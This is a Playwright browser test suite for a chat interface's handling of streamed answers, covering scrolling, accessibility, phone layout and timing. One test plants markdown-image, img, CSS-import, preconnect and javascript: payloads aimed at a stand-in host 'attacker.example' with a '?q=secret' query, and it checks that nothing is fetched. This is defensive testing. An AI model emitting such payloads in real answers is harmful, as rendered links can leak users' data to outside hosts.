"""How the page reads: nothing jumps, nothing hides, nothing is fetched; by eye, by ear, by keyboard, on a phone."""

import re
import threading
from itertools import pairwise
from typing import Any

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Page, ViewportSize, expect

from tests.gateway_ui.chat import Chat, Open
from tests.gateway_ui.test_page_answers import SOURCES
from tests.tokenwire.fake_service import FakeService, completed, thought, tool_call

pytestmark = pytest.mark.browser

PARAGRAPHS = ["A paragraph of the answer, long enough for more than one line on most screens.\n\n"] * 30

# One chunk for each kind of thing that might be drawn late or change its height.
RICH = (
    *["Some", "words.", ""],
    "\n\n```python\n", "def f(x):\n", "    return x\n", "```\n\n",
    "A formula: ", "\\(x^2", " + 1\\)", " and another:\n\n", "$$\\frac{1}", "{2}$$", "\n\n",
    "| a | b |\n", "|---|---|\n", "| 1 | 2 |\n", "| 3 |", " 4 |\n\n",
    "A heading\n", "---\n\n", "- one\n", "- two **bo", "ld**\n\n", "> quoted\n", "> more\n\n", "The end.",
)  # fmt: skip

HOSTILE = "![x](http://attacker.example/?q=secret)"
EVERYWHERE = " ".join(
    (
        HOSTILE,
        '<img src="http://attacker.example/1.png">',
        "<style>@import 'http://attacker.example/2.css'</style>",
        "<link rel=preconnect href=http://attacker.example>",
        "[a](javascript:alert(1))",
        ":material/home: :smile: :red[x]",
    )
)


async def growing(page: Chat, text: str) -> Any:
    """Watch the answer's height at each frame, and how far the page is scrolled."""
    return await page.tab.evaluate_handle(
        """text => {
            const seen = {heights: [], empty: 0, started: false};
            const main = document.querySelector('[data-testid=stMain]');
            const look = () => {
                const words = [...document.querySelectorAll('[class*=st-key-words-]')].pop();
                if (words && words.innerText.includes(text)) {
                    seen.started = true;
                    seen.heights.push(words.getBoundingClientRect().height);
                } else if (seen.started) seen.empty += 1;
                requestAnimationFrame(look);
            };
            look();
            return seen;
        }""",
        text,
    )


async def test_the_answer_never_shrinks_or_goes_blank_while_it_streams(chat: Open, service: FakeService) -> None:
    gates = [threading.Event() for _ in RICH]
    steps = [one for piece, gate in zip(RICH, gates, strict=True) for one in (piece, gate)]
    service.will_answer("First. ", *steps, completed())
    page = await chat()
    seen = await growing(page, "First.")
    await page.ask("What is baseball?")
    for number, gate in enumerate(gates, 2):
        await expect(page.answer()).to_contain_text(re.compile(rf"\b{number} chunks"))
        gate.set()
    await expect(page.answer()).to_contain_text("tokens in")
    await expect(page.answer().locator("math")).to_have_count(2)
    await page.photograph("rich")
    found = await seen.json_value()
    assert found["empty"] == 0
    heights = found["heights"]
    assert len(heights) > len(RICH)
    assert all(after >= before - 0.5 for before, after in pairwise(heights)), heights


async def end_is_visible(page: Chat) -> bool:
    left: float = await page.tab.get_by_test_id("stMain").evaluate(
        "main => main.scrollHeight - main.scrollTop - main.clientHeight"
    )
    return left < 5


async def test_the_page_follows_unless_the_reader_scrolls_away(chat: Open, service: FakeService) -> None:
    more, rest = threading.Event(), threading.Event()
    service.will_answer(*PARAGRAPHS, more, "Something new.\n\n", *PARAGRAPHS, rest, "The end.", completed())
    page = await chat()
    to_end = page.tab.get_by_role("button", name="To the end")
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("30 chunks")
    assert await end_is_visible(page)
    await expect(to_end).to_be_hidden()
    await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollBy(0, -600)")
    await expect(to_end).to_be_visible()
    place = await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollTop")
    more.set()
    await expect(page.answer()).to_contain_text("61 chunks")
    assert await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollTop") == place
    await page.photograph("scrolled-away")
    await to_end.click()
    await expect(to_end).to_be_hidden()
    rest.set()
    await expect(page.answer()).to_contain_text("tokens in")
    assert await end_is_visible(page)
    # All of it, once.
    said = await page.answer().locator('[class*="st-key-words-"]').inner_text()
    assert said.split() == ("".join([*PARAGRAPHS, "Something new.\n\n", *PARAGRAPHS, "The end."])).split()


async def test_a_question_asked_from_far_up_is_in_sight_with_its_answer(chat: Open, service: FakeService) -> None:
    service.will_answer(*PARAGRAPHS, completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.messages.first.hover()
    await page.tab.get_by_test_id("stMain").evaluate("main => main.scrollTo(0, 0)")
    await expect(page.tab.get_by_role("button", name="To the end")).to_be_visible()
    await page.ask("And cricket?")
    await expect(page.answer()).to_contain_text("tokens in")
    await expect(page.messages.nth(2)).to_be_in_viewport()
    await expect(page.answer().get_by_text("Hello there.")).to_be_in_viewport()


async def test_the_input_has_the_cursor_and_all_is_done_by_keyboard(chat: Open, service: FakeService) -> None:
    service.will_answer("Half", threading.Event())
    page = await chat()
    await expect(page.input).to_be_focused()
    await page.tab.keyboard.type("What is baseball?")
    await page.tab.keyboard.press("Enter")
    await expect(page.answer()).to_contain_text("Half")
    await expect(page.input).to_be_focused()
    await page.tab.keyboard.press("Escape")
    await expect(page.problem()).to_be_visible()


async def test_the_answer_is_read_out_sentence_by_sentence(chat: Open, service: FakeService) -> None:
    gate, rest = threading.Event(), threading.Event()
    service.will_answer("The first sentence. The sec", gate, "ond one. A third", rest, " without an end", completed())
    page = await chat()
    voice = page.tab.locator('.tw-voice[aria-live="polite"]')
    await page.ask("What is baseball?")
    await expect(voice).to_have_text("The first sentence.")
    gate.set()
    await expect(voice.locator("p")).to_have_text(["The first sentence.", "The second one."])
    rest.set()
    await expect(voice.locator("p").last).to_have_text("A third without an end")


LOOKS = {
    "light": ("light", ViewportSize(width=1100, height=800)),
    "dark": ("dark", ViewportSize(width=1100, height=800)),
    "phone": ("light", ViewportSize(width=390, height=844)),
    "phone-dark": ("dark", ViewportSize(width=390, height=844)),
}


@pytest.mark.parametrize("look", LOOKS)
async def test_axe_finds_nothing_against_wcag_2_2_aa(chat: Open, tab: Page, service: FakeService, look: str) -> None:
    scheme, size = LOOKS[look]
    await tab.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
    await tab.set_viewport_size(size)
    gate = threading.Event()
    service.will_answer(
        thought("Hm."), *RICH, "\n\n```python\nclass A: # c\n    x = 'text' + 1.5\n```\n\n",
        gate, tool_call("weather", {"city": "Oslo"}), SOURCES, completed(),
    )  # fmt: skip
    page = await chat()
    rules = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}}
    for state in ("empty", "writing", "answered"):
        if state == "writing":
            await page.ask("What is baseball?")
            await expect(page.answer()).to_contain_text("class A")
        elif state == "answered":
            gate.set()
            await expect(page.answer()).to_contain_text("tokens in")
            await page.settled()
        found = await Axe().run(tab, options=rules)
        wrong = [
            (one["id"], node["html"][:200], node["failureSummary"][:300])
            for one in found.response["violations"]
            for node in one["nodes"]
        ]
        assert not wrong, state


async def test_on_a_phone_wide_things_scroll_by_themselves_and_targets_are_large(
    chat: Open, tab: Page, service: FakeService
) -> None:
    await tab.set_viewport_size(ViewportSize(width=390, height=844))
    cells = " | ".join(f"a wide column {number}" for number in range(12))
    table = f"| {cells} |\n|{'---|' * 12}\n| {cells} |\n\n"
    service.will_answer(
        table, "```python\n" + "x = 1 + " * 60 + "1\n```\n\n", "`" + "y" * 300 + "` " + "z" * 300, completed()
    )
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.photograph("phone-wide")
    wide = "main => main.scrollWidth - main.clientWidth"
    assert await tab.get_by_test_id("stMain").evaluate(wide) <= 0
    for place in (".tw-table", ".tw-code pre"):
        inside = page.answer().locator(place)
        assert await inside.evaluate("one => one.scrollWidth > one.clientWidth"), place
    box = await page.answer().locator(".tw-md").first.bounding_box()
    assert box is not None
    assert box["x"] < 30, "no room is lost to an avatar"
    buttons = page.tab.get_by_test_id("stMain").get_by_role("button")
    small = []
    for button in await buttons.all():
        box = await button.bounding_box()
        if box is not None and box["width"] and (box["width"] < 44 or box["height"] < 44):
            small.append((await button.inner_text(), await button.get_attribute("data-testid"), box))
    assert not small


async def test_dollars_colons_and_dashes_are_what_the_model_said(chat: Open, service: FakeService) -> None:
    said = "It costs $5 today and $7 tomorrow; :smile: :red[x] :material/home: a -- b -> c $HOME/bin:$PATH"
    service.will_answer(said, completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    assert await page.answer().locator(".tw-md").inner_text() == said


async def test_nothing_that_anybody_names_is_fetched(chat: Open, tab: Page, service: FakeService) -> None:
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url) if "attacker" in request.url else None)
    service.will_answer(
        thought(EVERYWHERE),
        EVERYWHERE,
        f"\n\n| {HOSTILE} |\n|---|\n| {HOSTILE} |\n\n```{HOSTILE}\n{EVERYWHERE}\n```\n\n# {EVERYWHERE}",
        tool_call(HOSTILE, {EVERYWHERE: EVERYWHERE}),
        SOURCES,
        completed(),
    )
    page = await chat()
    await page.ask(EVERYWHERE)
    await expect(page.answer()).to_contain_text("tokens in")
    await page.settled()
    result = page.tab.get_by_test_id("stForm").get_by_test_id("stWidgetLabel")
    assert (await result.inner_text()).replace("\u2060", "") == f"Result of {HOSTILE}"
    await page.answer().get_by_text("Chunks", exact=True).click()
    await page.open_this_conversation()
    await page.tab.get_by_role("textbox", name="Name").fill(EVERYWHERE)
    await page.tab.get_by_role("textbox", name="Name").press("Enter")
    await expect(page.tab.locator(".st-key-conversations")).to_contain_text("attacker.example/?q=secret")
    await page.tab.get_by_role("button", name="Delete").click()
    await expect(page.tab.get_by_role("button", name="Undo")).to_contain_text("attacker.example/?q=secret")
    await page.settled()
    assert not asked


async def test_thoughts_are_timed_to_the_first_piece_of_the_answer(chat: Open, service: FakeService) -> None:
    gate = threading.Event()
    service.will_answer(thought("Hm."), gate, "Word.", completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("Thinking")
    await page.tab.wait_for_timeout(1200)  # so that the two differ
    gate.set()
    await expect(page.answer()).to_contain_text("tokens in")
    said = await page.answer().inner_text()
    thinking, first = re.search(r"Thought for ([\d.]+ m?s)", said), re.search(r"first chunk ([\d.]+ m?s)", said)
    assert thinking is not None
    assert first is not None
    assert thinking[1] == first[1]


async def test_marked_chunks_are_of_the_last_answer_only(chat: Open, service: FakeService) -> None:
    service.will_answer("Some **bold** words.", completed())
    page = await chat()
    await page.ask("What is baseball?")
    await expect(page.answer()).to_contain_text("tokens in")
    await page.flip("Mark the chunks")
    service.will_answer("Other ", "**bold** words.", completed())
    await page.ask("And cricket?")
    await expect(page.answer().locator(".tw-piece")).to_have_count(2)
    await expect(page.messages.nth(1).locator("strong")).to_have_text("bold")
